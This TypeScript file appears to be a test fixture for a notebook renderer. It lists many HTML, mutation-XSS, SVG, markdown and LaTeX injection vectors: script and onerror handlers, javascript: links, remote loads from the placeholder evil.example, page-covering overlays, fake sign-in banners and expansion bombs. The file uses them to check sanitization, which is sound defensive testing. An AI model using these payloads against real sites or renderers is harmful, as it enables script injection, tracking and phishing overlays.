import { codeCell, markdownCell, shown, type CellFile } from './notebook-file.ts';

/**
 * Markup that tries to run, to load, or to leave its box. `ID` stands for the vector's own name: evidence of what
 * came through names it. Families follow the public collections of vectors; each line is one way.
 */
export interface Vector {
  readonly name: string;
  readonly mime: 'text/html' | 'image/svg+xml' | 'text/markdown' | 'text/latex';
  readonly text: string;
}

const RUN = "window.owned='ID'";
const ELSEWHERE = 'https://evil.example/ID';

const html: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}.png">`,
  `<img srcset="${ELSEWHERE}.png 1x, ${ELSEWHERE}b.png 2x" src="data:,">`,
  `<picture><source srcset="${ELSEWHERE}.png"><img src="data:,"></picture>`,
  `<body background="${ELSEWHERE}.png" onload="${RUN}">`,
  `<table background="${ELSEWHERE}.png"><tr><td background="${ELSEWHERE}2.png">t</td></tr></table>`,
  `<div style="background:url(${ELSEWHERE}.png)">t</div>`,
  `<div style="background-image:image-set('${ELSEWHERE}.png' 1x)">t</div>`,
  `<div style="background:\\75rl(${ELSEWHERE}.png)">t</div>`,
  `<div style="background:url/**/('${ELSEWHERE}.png')">t</div>`,
  `<div style="--a:url(${ELSEWHERE}.png);background:var(--a)">t</div>`,
  `<div style="cursor:url(${ELSEWHERE}.cur),auto">t</div>`,
  `<div style="list-style-image:url('${ELSEWHERE}.png')">t</div>`,
  `<style>@import '${ELSEWHERE}.css';</style>t`,
  `<style>@import url(${ELSEWHERE}.css);</style>t`,
  `<style>@font-face{font-family:x;src:url(${ELSEWHERE}.woff)}*{font-family:x}</style>t`,
  `<style>*{background:u\\72l(${ELSEWHERE}.png)}</style>t`,
  `<style>:host{position:fixed;inset:0;z-index:9999}</style>t`,
  `<style>:host-context(body){display:none}</style>t`,
  `<style>html,body{display:none!important}</style>t`,
  `<style>div{position:fixed;inset:0;z-index:99999;background:red}</style><div>cover</div>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">cover</div>`,
  `<div style="position:absolute;top:-5000px;left:-500px;width:9000px;height:9000px;z-index:9">cover</div>`,
  `<div style="margin:-3000px;width:9999px;height:9999px;position:relative;z-index:9">cover</div>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data="${ELSEWHERE}.svg"></object>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<link rel="stylesheet" href="${ELSEWHERE}.css">`,
  `<link rel="prefetch" href="${ELSEWHERE}"><link rel="dns-prefetch" href="//evil.example">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">t`,
  `<base target="_top">t`,
  `<form action="${ELSEWHERE}"><input name="secret" autofocus><button>Go on</button></form>`,
  `<button formaction="javascript:${RUN}">b</button>`,
  `<input type="image" src="${ELSEWHERE}.png">`,
  `<isindex action="${ELSEWHERE}" type="image">`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<a href=" java\nscript:${RUN}">link</a>`,
  `<a href="data:text/html,<script>opener.${RUN}</script>">link</a>`,
  `<a href="vbscript:msgbox">link</a>`,
  `<a href="${ELSEWHERE}" target="_top">link</a>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}-ping">link</a>`,
  `<map name="m"><area shape="default" href="${ELSEWHERE}" target="_self"></map><img usemap="#m" src="data:,">`,
  `<video src="${ELSEWHERE}.mp4" poster="${ELSEWHERE}.png" autoplay onloadstart="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}" autoplay></audio>`,
  `<video><source onerror="${RUN}" src=x></video>`,
  `<video><track src="${ELSEWHERE}.vtt" default></video>`,
  `<details open ontoggle="${RUN}">t</details>`,
  `<div onpointerover="${RUN}" onfocus="${RUN}" tabindex=1 autofocus>t</div>`,
  `<div popover id="p">t</div><button popovertarget="p">b</button>`,
  `<dialog open>Your session has ended. Sign in.</dialog>`,
  `<marquee onstart="${RUN}">t</marquee>`,
  `<select onfocus="${RUN}" autofocus><option>t</select>`,
  `<textarea onfocus="${RUN}" autofocus>t</textarea>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>`,
  `<slot name="x" onslotchange="${RUN}"></slot>`,
  `<x-element onfocus="${RUN}" autofocus tabindex=0></x-element>`,
  `<img id="attributes" name="nodeName"><form id="x"><input name="attributes"></form>`,
  `<a id="root"></a><a id="app" name="app"></a><img name="getElementById">`,
  `<p is="x-p" onclick="${RUN}">t</p>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<\u0000script>${RUN}</\u0000script>`,
  `<div contenteditable>edit me</div>`,
  `<div class="banner" role="alert">This notebook is trusted. <button>Run</button></div>`,
];

const mutation: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><desc><noscript></desc><s><noscript><a title="</noscript><img src=1 onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><math><mi></mi><style><a title="</style><img src=x onerror=${RUN}>"></style></math></foreignObject></svg>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><caption><svg><title></caption><img src=x onerror=${RUN}></title></svg></caption></table>`,
  `<svg><style>&lt;/style>&lt;img src=x onerror=${RUN}></style></svg>`,
  `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
  `<a href="x"><b><a href="javascript:${RUN}">nested</a></b></a>`,
  `<p>${'<i>'.repeat(300)}<table><p><img src=x onerror=${RUN}></table>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${RUN}'>"></style></h1>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=${RUN}//"></svg>`,
];

const svg: readonly string[] = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><rect width="5" height="5"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  `<svg><a xlink:href="${ELSEWHERE}"><text y="9">x</text></a></svg>`,
  `<svg><a href="${ELSEWHERE}" target="_top"><text y="9">x</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" /><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg><a><animate attributeName="href" to="javascript:${RUN}" begin="0s"/><text y="9">x</text></a></svg>`,
  `<svg><use href="${ELSEWHERE}.svg#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href="${ELSEWHERE}.png" width="9" height="9"/></svg>`,
  `<svg><filter id="f"><feImage href="${ELSEWHERE}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  `<svg><rect fill="url(${ELSEWHERE}.svg#p)" width="9" height="9"/></svg>`,
  `<svg><rect filter="url('${ELSEWHERE}.svg#f')" mask="url(${ELSEWHERE}.svg#m)" width="9" height="9"/></svg>`,
  `<svg><style>@import url(${ELSEWHERE}.css); rect { fill: url(${ELSEWHERE}#p) }</style><rect width="5" height="5"/></svg>`,
  `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/></foreignObject></svg>`,
  `<svg><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${RUN}"/></body></foreignObject></svg>`,
  `<?xml-stylesheet href="${ELSEWHERE}.xsl"?><svg><rect width="5" height="5"/></svg>`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg><text>&b;</text></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${RUN}</handler></svg>`,
  `<svg><cursor xlink:href="${ELSEWHERE}.cur"/><font-face-uri xlink:href="${ELSEWHERE}.woff"/></svg>`,
];

const markdown: readonly string[] = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:x)`,
  `<javascript:${RUN}>`,
  `![x](${ELSEWHERE}.png)`,
  `![x](//evil.example/ID.png "t")`,
  `![x][ref]\n\n[ref]: ${ELSEWHERE}.png`,
  `![x](javascript:${RUN})`,
  `![x](x "onerror=${RUN}")`,
  `![x\\](y)](z" onerror="${RUN})`,
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<style>body{display:none}</style>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<div style="position:fixed;inset:0">cover</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[a](#nb=x)`,
  '```html\n<img src=x onerror="' + RUN + '">\n```',
  '`<img src=x onerror="' + RUN + '">`',
  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
  `![a](attachment:evil.svg)`,
  `# <img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><rect width="5" height="5"/></svg>`,
];

const latex: readonly string[] = [
  `\\href{javascript:${RUN}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\href{${ELSEWHERE}}{x}`,
  `\\includegraphics{${ELSEWHERE}.png}`,
  `\\includegraphics[alt=x]{javascript:${RUN}}`,
  `\\htmlClass{banner}{x}`,
  `\\htmlId{root}{x}`,
  `\\htmlStyle{position:fixed;inset:0}{x}`,
  `\\htmlData{a=1}{x}`,
  `\\text{<img src=x onerror="${RUN}">}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}`,
  `\\gdef\\frac{<script>${RUN}</script>}\\frac`,
  `\\newcommand{\\x}[1]{\\href{javascript:${RUN}}{#1}}\\x{y}`,
  `\\rule{100000em}{100000em}`,
  `\\kern{-99999em}x`,
  `\\hspace{-99999em}\\raisebox{99999em}{x}`,
  `\\color{red;background:url(${ELSEWHERE}.png)}x`,
  `\\colorbox{url(${ELSEWHERE}.png)}{x}`,
  `\\fcolorbox{"onmouseover=${RUN}"}{red}{x}`,
  `\\char"10FFFF \\unicode{x}`,
  `${'{'.repeat(400)}x${'}'.repeat(400)}`,
];

export const VECTORS: readonly Vector[] = [
  ...family('html', 'text/html', html),
  ...family('mutation', 'text/html', mutation),
  ...family('svg', 'image/svg+xml', svg),
  ...family('svg-in-html', 'text/html', svg),
  ...family('markdown', 'text/markdown', markdown),
  ...family('html-in-markdown', 'text/markdown', [...html, ...mutation]),
  ...family(
    'latex',
    'text/latex',
    latex.map((text) => `$$${text}$$`),
  ),
  ...family(
    'latex-in-markdown',
    'text/markdown',
    latex.map((text) => `so $${text}$ and\n\n$$\n${text}\n$$`),
  ),
];

/** A cell of a file that has it as its text, or as what it has put out. */
export function cellOf({ mime, text }: Vector): CellFile {
  return mime === 'text/markdown'
    ? markdownCell(text, { 'evil.svg': { 'image/svg+xml': '<svg onload="window.owned=1"/>' } })
    : codeCell('0', [shown({ [mime]: text })]);
}

function family(title: string, mime: Vector['mime'], texts: readonly string[]): Vector[] {
  return texts.map((text, i) => {
    const name = `${title}-${i + 1}`;
    return { name, mime, text: text.replaceAll('ID', name) };
  });
}
